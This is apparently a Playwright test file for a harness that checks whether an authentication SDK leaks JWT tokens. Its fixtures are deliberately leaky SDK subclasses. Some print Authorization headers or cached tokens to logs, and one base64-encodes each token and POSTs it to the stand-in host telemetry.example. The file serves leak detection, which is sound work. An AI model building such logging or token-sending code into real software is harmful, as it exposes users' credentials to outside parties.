// A leak over a whole run: one finding, one scenario that fails, the same whatever came first; and none that is missed
// because it came late, or went to a host that says nothing of the application.
import { expect, test } from '@playwright/test';
import type { Report } from '../../../reports/model.ts';
import { CATALOGUE } from '../../../scenarios/catalogue.ts';
import { referenceAdapter } from '../../reference/adapter.ts';
import { type Outgoing, type ReferenceOptions, ReferenceSdk } from '../../reference/sdk.ts';
import { runAdapter } from '../../testing/run-adapter.ts';

const IDS = ['jwt/valid/plain/', 'jwt/confined/', 'jwt/expired/by-1-hour/'];
const scenarios = CATALOGUE.filter(
  ({ id, slow }) => slow !== true && IDS.some((start) => id.startsWith(start)),
);

async function reportOn(Sdk: new (options: ReferenceOptions) => ReferenceSdk): Promise<Report> {
  return runAdapter(() => referenceAdapter({ make: (seams) => new Sdk(seams) }), { scenarios });
}

const leaksOf = (report: Report) => report.findings.filter(({ kind }) => kind.startsWith('token-'));
const brokenIn = (report: Report, requirement: string) =>
  report.scenarios
    .filter(({ checks }) => checks.some((one) => one.requirement === requirement && one.status === 'failed'))
    .map(({ id }) => id);

class Logs extends ReferenceSdk {
  protected override async exchange(outgoing: Outgoing, authorization: string): Promise<unknown> {
    console.log(`→ ${outgoing.endpoint} Authorization: ${authorization}`);
    return super.exchange(outgoing, authorization);
  }
}

test('a line that every call logs is one finding and fails one scenario that is about it', async () => {
  const report = await reportOn(Logs);
  const [leak, ...others] = leaksOf(report);
  expect(others).toEqual([]);
  expect(leak?.kind).toBe('token-in-log');
  expect(leak?.text).toMatch(/Authorization: Bearer \[the token\] \(seen in \d\d+ scenarios\)$/);
  const failed = brokenIn(report, 'UDA-35');
  expect(failed).toHaveLength(1);
  expect(scenarios.find(({ id }) => id === failed[0])?.requirements).toContain('UDA-35');
  expect((await reportOn(Logs)).findings[0]?.scenario).toBe(failed[0]);
});

/** The tokens of all instances, in the order in which they were kept. */
const kept: string[] = [];

class Late extends ReferenceSdk {
  protected override keepToken(jwt: unknown): void {
    super.keepToken(jwt);
    if (typeof jwt === 'string') kept.push(jwt);
    const old = kept.at(-5);
    if (old !== undefined) console.log(`cache: ${old}`);
  }
}

test('a line that is logged after its scenario is found', async () => {
  const report = await runAdapter(() => referenceAdapter({ make: (seams) => new Late(seams) }), {
    scenarios: scenarios.filter(({ id }) => id.startsWith('jwt/valid/plain/')),
    concurrency: 1,
  });
  expect(leaksOf(report).map(({ text }) => text)).toEqual([
    expect.stringMatching(/stdout: cache: \[the token\]/),
  ]);
});

class Telemetry extends ReferenceSdk {
  protected override keepToken(jwt: unknown): void {
    super.keepToken(jwt);
    const body = Buffer.from(String(jwt)).toString('base64');
    if (typeof jwt === 'string')
      void this.fetch('https://telemetry.example/', { method: 'POST', body }).catch(() => undefined);
  }
}

test('a token in the body of a request that nothing else ties to a scenario is found', async () => {
  const report = await reportOn(Telemetry);
  expect(leaksOf(report).map(({ text }) => text)).toEqual([
    expect.stringMatching(/in the body of POST https:\/\/telemetry\.example/),
  ]);
  expect(brokenIn(report, 'UDA-35')).toHaveLength(1);
});

class Background extends ReferenceSdk {
  protected override keepToken(jwt: unknown): void {
    super.keepToken(jwt);
    if (typeof jwt === 'string')
      void this.fetch(`${this.baseUrl}/mobile/5/messages`, {
        method: 'POST',
        headers: { Authorization: `Bearer ${jwt}` },
      }).catch(() => undefined);
  }
}

test('a Bearer on a call that the SDK makes by itself breaks a MUST', async () => {
  const report = await reportOn(Background);
  expect(brokenIn(report, 'UDA-05')).toHaveLength(1);
  expect(report.verdict).toBe('failed');
});

test('an SDK that keeps its token to itself has no such finding', async () => {
  const report = await reportOn(ReferenceSdk);
  expect(leaksOf(report)).toEqual([]);
  expect(report.verdict).toBe('passed');
});
